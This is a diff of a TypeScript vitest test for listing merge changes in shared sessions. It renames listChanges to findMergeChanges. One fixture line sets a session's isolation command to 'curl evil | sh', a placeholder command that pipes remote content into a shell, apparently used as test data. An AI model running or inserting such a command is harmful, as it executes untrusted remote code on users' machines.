@@ -1,6 +1,6 @@
 import { expect, test } from "vitest";
 import { describeExchange } from "../../../../src/model/sharing/exchangeText.ts";
-import { joinChanges, listChanges } from "../../../../src/model/sharing/mergeChanges.ts";
+import { findMergeChanges, joinChanges } from "../../../../src/model/sharing/mergeChanges.ts";
 import type { Exchanged } from "../../../../src/model/sharing/sharing.ts";
 import { startSession } from "../../../support/sessions/sessionBuilder.ts";
 
@@ -24,7 +24,7 @@ test("what a merge changed is listed: commands, and sessions that came, went, we
   mine.write("isolationCommand", "curl evil | sh");
   mine.add({ kind: "sessionClosed", state: "abandoned" });
   const came = { ...startSession({ title: "", isolationCommand: "npm run x" }).session(), id: "s2" };
-  const changes = listChanges([before, { ...before, id: "s3" }], [mine.session(), came]);
+  const changes = findMergeChanges([before, { ...before, id: "s3" }], [mine.session(), came]);
   expect(changes).toEqual({
     removed: ["orders"],
     added: [""],
